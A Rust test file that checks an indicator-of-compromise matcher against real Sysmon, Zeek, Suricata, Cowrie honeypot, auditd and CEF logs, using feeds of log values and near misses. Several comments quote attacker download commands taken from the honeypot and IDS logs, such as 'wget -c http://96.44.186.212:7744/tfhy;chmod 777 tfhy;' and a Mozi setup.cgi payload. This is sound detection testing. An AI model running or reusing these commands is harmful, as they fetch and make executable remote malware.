//! Each real log under ../shared/realdata/logs, scanned through the WebAssembly component
//! with its profile. The real feeds and these logs share almost no values, so each test
//! builds a small ThreatFox export from values taken out of the log (an address, an
//! ip:port pair, a hash) and near misses (a neighbouring address, another port, one hex
//! digit changed; for names, a sibling, a parent under exact matching, a name that only
//! ends like the real one, a URL with another path), and asserts exactly which records hit
//! and which indicators never do.

mod common;

use std::collections::BTreeMap;

use common::{NOW, loaded};
use iocsieve_host::cases::shared_dir;
use iocsieve_host::component::{Emit, Verdict};

/// The logs hold private and documentation addresses, which the flooding guard would refuse
/// as indicators; these feeds are built from the logs' own values on purpose.
const GUARD_OFF: &str = "[guard]\nbuiltin = false\n";

fn log_path(path: &str) -> std::path::PathBuf {
    shared_dir().join("realdata/logs").join(path)
}

fn lines(path: &str) -> Vec<String> {
    std::fs::read_to_string(log_path(path))
        .unwrap()
        .lines()
        .filter(|l| !l.trim().is_empty())
        .map(str::to_string)
        .collect()
}

/// A ThreatFox JSON export of `(value, ioc_type)` entries.
fn threatfox(entries: &[(&str, &str)]) -> Vec<u8> {
    let mut export = serde_json::Map::new();
    for (n, (value, kind)) in entries.iter().enumerate() {
        export.insert(
            (9_000_000 + n).to_string(),
            serde_json::json!([{
                "ioc_value": value, "ioc_type": kind, "threat_type": "botnet_cc",
                "malware": "test", "malware_printable": "Test", "confidence_level": 90,
                "first_seen_utc": "2026-01-01 00:00:00"
            }]),
        );
    }
    serde_json::to_vec(&export).unwrap()
}

/// What scanning a log found.
#[derive(Debug, Default)]
struct Found {
    records: usize,
    hit_records: usize,
    /// Records each indicator matched (an indicator that never matched is absent).
    by_indicator: BTreeMap<String, usize>,
    /// Records read with each profile.
    profiles: BTreeMap<String, u64>,
}

fn scan(records: &[String], feed: &[(&str, &str)]) -> Found {
    scan_with(records, feed, "")
}

/// [`scan`] with more settings, such as `[[feeds]] name = "log-values"` options.
fn scan_with(records: &[String], feed: &[(&str, &str)], settings: &str) -> Found {
    let settings = format!("{GUARD_OFF}{settings}");
    let mut detector = loaded(&[("log-values".to_string(), threatfox(feed))], &settings);
    let mut found = Found {
        records: records.len(),
        ..Found::default()
    };
    for record in records {
        let outcome = detector.evaluate(record, NOW).unwrap();
        match (&outcome.verdict, &outcome.emit) {
            (Verdict::Hit(matches), Emit::Enriched(out)) => {
                found.hit_records += 1;
                let mut seen: Vec<&str> = matches.iter().map(|m| m.indicator.as_str()).collect();
                seen.sort_unstable();
                seen.dedup();
                for indicator in seen {
                    *found.by_indicator.entry(indicator.to_string()).or_default() += 1;
                }
                // A hit is JSON; a text line comes out as {"message": line, ...}.
                let out: serde_json::Value = serde_json::from_str(out).expect("JSON out");
                if !record.trim_start().starts_with('{') {
                    assert_eq!(out["message"], record.trim_end(), "the line is kept");
                }
            }
            (Verdict::Miss, Emit::Unchanged) => {}
            other => panic!("unexpected outcome {other:?} for {record}"),
        }
    }
    let counters = detector.counters().unwrap();
    assert_eq!(counters.records_in, records.len() as u64);
    assert_eq!(
        counters.records_out,
        records.len() as u64,
        "records in == out"
    );
    assert_eq!(counters.unreadable, 0);
    found.profiles.extend(counters.records_by_profile);
    found
}

fn expect(found: &Found, hit_records: usize, by_indicator: &[(&str, usize)]) {
    let expected: BTreeMap<String, usize> = by_indicator
        .iter()
        .map(|(k, v)| (k.to_string(), *v))
        .collect();
    assert_eq!(
        (found.hit_records, &found.by_indicator),
        (hit_records, &expected),
        "hit records and records per indicator (near misses must be absent)"
    );
}

fn only_profile(found: &Found, profile: &str) {
    let expected = BTreeMap::from([(profile.to_string(), found.records as u64)]);
    assert_eq!(found.profiles, expected, "every record read as {profile}");
}

#[test]
fn sysmon_network_process_file_and_dns_events() {
    let records = lines("sysmon/sysmon_eid1_3_11_22_otrf.jsonl");
    let found = scan(
        &records,
        &[
            // EID 3: DestinationIp/DestinationPort; a neighbour and another port miss.
            ("20.44.85.237:443", "ip:port"),
            ("20.44.85.238:443", "ip:port"),
            ("20.44.85.237:444", "ip:port"),
            // EID 3 destination and EID 22 QueryResults (`::ffff:52.114.132.73;`).
            ("52.114.132.73", "ip"),
            ("52.114.132.74", "ip"),
            // EID 1 Hashes: SHA256 and MD5 entries; one digit changed misses, and the
            // IMPHASH of the same list is not a file hash.
            (
                "DD191A5B23DF92E12A8852291F9FB5ED594B76A28A5A464418442584AFD1E048",
                "sha256_hash",
            ),
            (
                "DD191A5B23DF92E12A8852291F9FB5ED594B76A28A5A464418442584AFD1E049",
                "sha256_hash",
            ),
            ("6CFF0673CE2002A2FE2218642605187A", "md5_hash"),
            ("247B9220E5D9B720A82B2C8B5069AD69", "md5_hash"),
        ],
    );
    assert_eq!(found.records, 451);
    only_profile(&found, "Sysmon");
    expect(
        &found,
        30 + 7 + 14 + 6,
        &[
            ("20.44.85.237:443", 30),
            ("52.114.132.73", 7),
            (
                "dd191a5b23df92e12a8852291f9fb5ed594b76a28a5a464418442584afd1e048",
                14,
            ),
            ("6cff0673ce2002a2fe2218642605187a", 6),
        ],
    );
}

#[test]
fn zeek_conn_dns_http_and_files() {
    let feed = [
        ("147.32.80.7:80", "ip:port"),
        ("147.32.80.7:81", "ip:port"),
        ("147.32.80.8:80", "ip:port"),
        ("216.58.201.78", "ip"),
        ("216.58.201.79", "ip"),
        ("23.37.43.27", "ip"),
        ("df7c845e4eadd7bac6cbfe2087bbd482", "md5_hash"),
        ("df7c845e4eadd7bac6cbfe2087bbd483", "md5_hash"),
        ("a6120fc0b4664fad0b3b6ffd5f7a33e561ddb87d", "sha1_hash"),
        ("a6120fc0b4664fad0b3b6ffd5f7a33e561ddb87e", "sha1_hash"),
    ];
    let md5 = "df7c845e4eadd7bac6cbfe2087bbd482";
    let sha1 = "a6120fc0b4664fad0b3b6ffd5f7a33e561ddb87d";
    for (file, records, hits, by_indicator) in [
        (
            "conn",
            576,
            60,
            vec![
                ("147.32.80.7:80", 20),
                ("216.58.201.78", 28),
                ("23.37.43.27", 12),
            ],
        ),
        // dns: the address in `answers`.
        (
            "dns",
            239,
            28,
            vec![("216.58.201.78", 17), ("23.37.43.27", 11)],
        ),
        (
            "http",
            516,
            148,
            vec![
                ("147.32.80.7:80", 115),
                ("216.58.201.78", 20),
                ("23.37.43.27", 13),
            ],
        ),
        // files: senders in `tx_hosts`, hashes.
        (
            "files",
            936,
            247,
            vec![
                ("216.58.201.78", 73),
                ("23.37.43.27", 13),
                (md5, 115),
                (sha1, 64),
            ],
        ),
    ] {
        let found = scan(&lines(&format!("zeek_json/{file}.log")), &feed);
        assert_eq!(found.records, records, "{file}");
        only_profile(&found, "Zeek");
        expect(&found, hits, &by_indicator);
    }
}

#[test]
fn suricata_eve_flow_alert_dns_http() {
    let records = lines("suricata/eve.json");
    let found = scan(
        &records,
        &[
            ("45.143.200.102", "ip"),
            ("45.143.200.103", "ip"),
            ("192.168.1.129:1433", "ip:port"),
            ("192.168.1.129:1434", "ip:port"),
            // In dns answers (dns.answers[].rdata, dns.grouped.A) and as a TLS peer.
            ("122.248.252.67", "ip"),
            ("122.248.252.68", "ip"),
        ],
    );
    assert_eq!(found.records, 3327);
    only_profile(&found, "SuricataEve");
    expect(
        &found,
        546,
        &[
            ("122.248.252.67", 355),
            ("192.168.1.129:1433", 153),
            ("45.143.200.102", 38),
        ],
    );
}

#[test]
fn cowrie_connections_tunnels_downloads_and_commands() {
    let records = lines("cowrie/cowrie.json.2018-05-24.jsonl");
    let found = scan(
        &records,
        &[
            // direct-tcpip requests and data to an IPv6 address.
            ("[2a02:6b8:a::a]:80", "ip:port"),
            ("[2a02:6b8:a::b]:80", "ip:port"),
            ("[2a02:6b8:a::a]:81", "ip:port"),
            // In attackers' commands: `wget http://101.254.149.145:6636/tdff`.
            ("101.254.149.145:6636", "ip:port"),
            ("101.254.149.145:6637", "ip:port"),
            // The session's own address (src_ip), also in its `wget http://104.223.213.141/a21jj`.
            ("104.223.213.141", "ip"),
            ("104.223.213.14", "ip"),
            // A downloaded file's shasum.
            (
                "9cc38c074833ea871c81324d0b55efe66e71a301d6c24cbed745b9a33f3dccc5",
                "sha256_hash",
            ),
            (
                "9cc38c074833ea871c81324d0b55efe66e71a301d6c24cbed745b9a33f3dccc4",
                "sha256_hash",
            ),
        ],
    );
    assert_eq!(found.records, 1937);
    only_profile(&found, "Cowrie");
    expect(
        &found,
        36 + 2 + 10 + 1,
        &[
            ("101.254.149.145:6636", 2),
            ("104.223.213.141", 10),
            ("[2a02:6b8:a::a]:80", 36),
            (
                "9cc38c074833ea871c81324d0b55efe66e71a301d6c24cbed745b9a33f3dccc5",
                1,
            ),
        ],
    );
}

#[test]
fn sentinel_common_security_log_export() {
    let text =
        std::fs::read_to_string(log_path("sentinel/commonsecuritylog_fortigate.json")).unwrap();
    let rows: Vec<serde_json::Value> = serde_json::from_str(&text).unwrap();
    let records: Vec<String> = rows.iter().map(|r| r.to_string()).collect();
    let found = scan(
        &records,
        &[
            ("213.252.245.73:15577", "ip:port"),
            ("213.252.245.73:15578", "ip:port"),
            ("104.168.141.190", "ip"),
            ("104.168.141.191", "ip"),
        ],
    );
    only_profile(&found, "CommonSecurityLog");
    expect(
        &found,
        2,
        &[("104.168.141.190", 1), ("213.252.245.73:15577", 1)],
    );
}

#[test]
fn openvpn_syslog_lines_as_plain_text() {
    let records = lines("sentinel/syslog_openvpn_raw.txt");
    let found = scan(
        &records,
        &[
            // `1.2.3.4:41445`, `[AF_INET]1.2.3.4:41445`, `demovpn/1.2.3.4:41445`.
            ("1.2.3.4:41445", "ip:port"),
            ("1.2.3.4:41446", "ip:port"),
            ("1.2.3.5:41445", "ip:port"),
            // `IPv4=10.10.10.10,`; its prefix 10.10.10.1 is not an address of the text.
            ("10.10.10.10", "ip"),
            ("10.10.10.1", "ip"),
            ("1.0.0.1", "ip"),
        ],
    );
    assert_eq!(found.records, 32);
    only_profile(&found, "PlainText");
    expect(
        &found,
        32,
        &[("1.0.0.1", 2), ("1.2.3.4:41445", 32), ("10.10.10.10", 8)],
    );
}

#[test]
fn auditd_lines_as_plain_text() {
    let mut records = lines("auditd/golibaudit_audit-ubuntu16.log");
    records.extend(lines("auditd/laurel_record-connect.txt"));
    records.extend(lines("auditd/laurel_record-execve-long.txt"));
    records.extend(lines("auditd/laurel_record-perl-reverse-shell.txt"));
    let found = scan(
        &records,
        &[
            ("179.38.151.221", "ip"),
            ("179.38.151.222", "ip"),
            ("72.83.230.100", "ip"),
            // SOCKADDR saddr=02002BCB7F000001...: AF_INET 127.0.0.1 port 11211; and the
            // AF_INET6 one, ::1 port 11211.
            ("127.0.0.1:11211", "ip:port"),
            ("127.0.0.1:11212", "ip:port"),
            ("[::1]:11211", "ip:port"),
        ],
    );
    only_profile(&found, "PlainText");
    expect(
        &found,
        2 + 2,
        &[
            ("179.38.151.221", 1),
            ("72.83.230.100", 1),
            ("127.0.0.1:11211", 1),
            ("[::1]:11211", 1),
        ],
    );
}

#[test]
fn check_point_cef_lines_as_common_security_log() {
    let records = lines("cef/checkpoint_cef_raw.txt");
    let found = scan(
        &records,
        &[
            ("89.160.20.156:443", "ip:port"),
            ("89.160.20.157:443", "ip:port"),
            ("89.160.20.156:444", "ip:port"),
            // fileHash (SHA-1 and MD5) and the IPv6 address in c6a2.
            ("55f4a511e6f630a6b1319505414f114e7bcaf13d", "sha1_hash"),
            ("55f4a511e6f630a6b1319505414f114e7bcaf13e", "sha1_hash"),
            ("580a783c1cb2b20613323f715d231a69", "md5_hash"),
            ("fd00::555", "ip"),
            ("fd00::556", "ip"),
        ],
    );
    assert_eq!(found.records, 3);
    only_profile(&found, "CommonSecurityLog");
    expect(
        &found,
        3,
        &[
            ("89.160.20.156:443", 1),
            ("55f4a511e6f630a6b1319505414f114e7bcaf13d", 1),
            ("580a783c1cb2b20613323f715d231a69", 1),
            ("fd00::555", 1),
        ],
    );
}

fn cef_vectors() -> Vec<(String, serde_json::Value)> {
    let mut files: Vec<_> = std::fs::read_dir(log_path("cef/cefparser_messages"))
        .unwrap()
        .map(|e| e.unwrap().path())
        .collect();
    files.sort();
    files
        .iter()
        .map(|path| {
            let v: serde_json::Value =
                serde_json::from_str(&std::fs::read_to_string(path).unwrap()).unwrap();
            (
                v["input"].as_str().unwrap().to_string(),
                v["expected"].clone(),
            )
        })
        .collect()
}

#[test]
fn cef_test_vectors_parse_to_their_expected_header_and_extensions() {
    let vectors = cef_vectors();
    assert_eq!(vectors.len(), 90);
    for (input, expected) in &vectors {
        let m = iocsieve_engine::cef::parse(input).unwrap_or_else(|| panic!("{input}"));
        let header = [
            (m.version.as_ref(), expected["cefVersion"].to_string()),
            (
                m.device_vendor.as_ref(),
                expected["deviceVendor"].as_str().unwrap().into(),
            ),
            (
                m.device_product.as_ref(),
                expected["deviceProduct"].as_str().unwrap().into(),
            ),
            (
                m.device_version.as_ref(),
                expected["deviceVersion"].as_str().unwrap().into(),
            ),
            (
                m.device_event_class_id.as_ref(),
                expected["deviceEventClassId"].as_str().unwrap().into(),
            ),
            (m.name.as_ref(), expected["name"].as_str().unwrap().into()),
            (
                m.severity.as_ref(),
                expected["severity"].as_str().unwrap().into(),
            ),
        ];
        for (got, want) in header {
            assert_eq!(got, want, "{input}");
        }
        let extensions: serde_json::Map<String, serde_json::Value> = m
            .extensions
            .iter()
            .map(|(k, v)| (k.to_string(), serde_json::Value::from(v.as_ref())))
            .collect();
        assert_eq!(
            &serde_json::Value::Object(extensions),
            &expected["extensions"],
            "{input}"
        );
        // The syslog header, when there is one, ends with the host.
        if let Some(host) = expected["host"].as_str() {
            assert!(m.prefix.ends_with(host), "{input}");
        }
    }
}

#[test]
fn cef_test_vectors_scanned_as_lines() {
    let records: Vec<String> = cef_vectors().into_iter().map(|(input, _)| input).collect();
    // src=10.0.0.1 stands in five of the nine messages of each of the ten header styles;
    // dvc=10.0.0.1 (the reporting device) is not a source or destination.
    let found = scan(
        &records,
        &[
            ("10.0.0.1", "ip"),
            ("10.0.0.2", "ip"),
            ("2.1.2.2", "ip"),
            ("1.1.1.1", "ip"),
        ],
    );
    only_profile(&found, "CommonSecurityLog");
    expect(
        &found,
        50,
        &[("1.1.1.1", 30), ("10.0.0.1", 50), ("2.1.2.2", 10)],
    );
}

/// Feed options that make the test feed's domains match their subdomains too.
const SUBDOMAINS: &str = "[[feeds]]\nname = \"log-values\"\ndomain_match = \"subdomains\"\n";

#[test]
fn sysmon_dns_query_names_and_cname_answers() {
    let records = lines("sysmon/sysmon_eid1_3_11_22_otrf.jsonl");
    let feed = [
        // EID 22 QueryName.
        ("mobile.pipe.aria.microsoft.com", "domain"),
        // Its parent (exact matching), a sibling, and a name that only ends like it.
        ("pipe.aria.microsoft.com", "domain"),
        ("desktop.pipe.aria.microsoft.com", "domain"),
        ("obile.pipe.aria.microsoft.com", "domain"),
        // A CNAME in QueryResults (`type:  5 skypedataprdcoleus04.cloudapp.net;`), read as
        // text; the parent cloudapp.net is also in the `host` field, which is no profile field.
        ("skypedataprdcoleus04.cloudapp.net", "domain"),
        ("cloudapp.net", "domain"),
    ];
    let found = scan(&records, &feed);
    only_profile(&found, "Sysmon");
    // The CNAME stands in the answers of two of the three queries.
    expect(
        &found,
        3,
        &[
            ("mobile.pipe.aria.microsoft.com", 3),
            ("skypedataprdcoleus04.cloudapp.net", 2),
        ],
    );
}

#[test]
fn zeek_dns_queries_and_http_hosts() {
    let feed = [
        ("www.bing.com", "domain"),
        ("ww.bing.com", "domain"),
        ("bing.com", "domain"),
        ("wpad.felk.cvut.cz", "domain"),
        ("wpad2.felk.cvut.cz", "domain"),
        ("felk.cvut.cz", "domain"),
    ];
    // dns `query` (and CNAMEs in `answers`), http `host`.
    for (file, hits, by_indicator) in [
        (
            "dns",
            19,
            vec![("wpad.felk.cvut.cz", 18), ("www.bing.com", 1)],
        ),
        ("http", 26, vec![("www.bing.com", 26)]),
        ("conn", 0, vec![]),
    ] {
        let found = scan(&lines(&format!("zeek_json/{file}.log")), &feed);
        only_profile(&found, "Zeek");
        expect(&found, hits, &by_indicator);
    }
    // With subdomain matching, bing.com and felk.cvut.cz also find the names under them:
    // c., g., www., api. and bat.bing.com queries and an any.edge.bing.com CNAME; wpad. and
    // eight more records under felk.cvut.cz (relay., isatap., ...). ww.bing.com and
    // wpad2.felk.cvut.cz still miss.
    let found = scan_with(&lines("zeek_json/dns.log"), &feed, SUBDOMAINS);
    expect(
        &found,
        32,
        &[
            ("bing.com", 6),
            ("felk.cvut.cz", 26),
            ("wpad.felk.cvut.cz", 18),
            ("www.bing.com", 1),
        ],
    );
}

#[test]
fn suricata_dns_names_and_tls_sni() {
    let records = lines("suricata/eve.json");
    let found = scan(
        &records,
        &[
            // dns.rrname of 302 queries and 302 answers, and one tls.sni.
            ("www.myedimax.com", "domain"),
            ("w.myedimax.com", "domain"),
            ("mail.myedimax.com", "domain"),
            ("myedimax.com", "domain"),
            ("www.google.com", "domain"),
            ("google.com", "domain"),
            // http.url is a path (`/setup.cgi?..wget+http://192.168.1.1:8088/Mozi.m..`):
            // no URL is read out of it.
            ("http://192.168.1.1:8088/Mozi.m", "url"),
        ],
    );
    only_profile(&found, "SuricataEve");
    expect(
        &found,
        605 + 76,
        &[("www.google.com", 76), ("www.myedimax.com", 605)],
    );
}

#[test]
fn cowrie_download_urls_and_urls_in_commands() {
    let records = lines("cowrie/cowrie.json.2018-05-24.jsonl");
    let found = scan(
        &records,
        &[
            // `url` of a failed download and `wget http://mdb7.cn:8081/exp` in `input`.
            ("http://mdb7.cn:8081/exp", "url"),
            ("http://mdb7.cn:8081/exp2", "url"),
            ("http://mdb7.cn/exp", "url"),
            // The same download by address: in `url`, and in a command line
            // (`wget -c http://96.44.186.212:7744/tfhy;chmod 777 tfhy;`).
            ("http://96.44.186.212:7744/tfhy", "url"),
            ("http://96.44.186.212:7744/tfh", "url"),
            // The host on its own, a name that only ends like it, and one under it.
            ("mdb7.cn", "domain"),
            ("db7.cn", "domain"),
            ("www.mdb7.cn", "domain"),
        ],
    );
    only_profile(&found, "Cowrie");
    expect(
        &found,
        4,
        &[
            ("http://96.44.186.212:7744/tfhy", 2),
            ("http://mdb7.cn:8081/exp", 2),
            ("mdb7.cn", 2),
        ],
    );
}

#[test]
fn names_in_syslog_and_auditd_text() {
    let feed = [
        // The syslog host of every OpenVPN line.
        ("demo-host.local", "domain"),
        ("host.local", "domain"),
        ("other-host.local", "domain"),
        // `.so` is a top-level domain, but `/lib64/ld-linux-x86-64.so.2` in auditd is a path.
        ("ld-linux-x86-64.so", "domain"),
    ];
    let found = scan(&lines("sentinel/syslog_openvpn_raw.txt"), &feed);
    only_profile(&found, "PlainText");
    expect(&found, 32, &[("demo-host.local", 32)]);
    let found = scan(&lines("auditd/golibaudit_audit-ubuntu16.log"), &feed);
    expect(&found, 0, &[]);
}
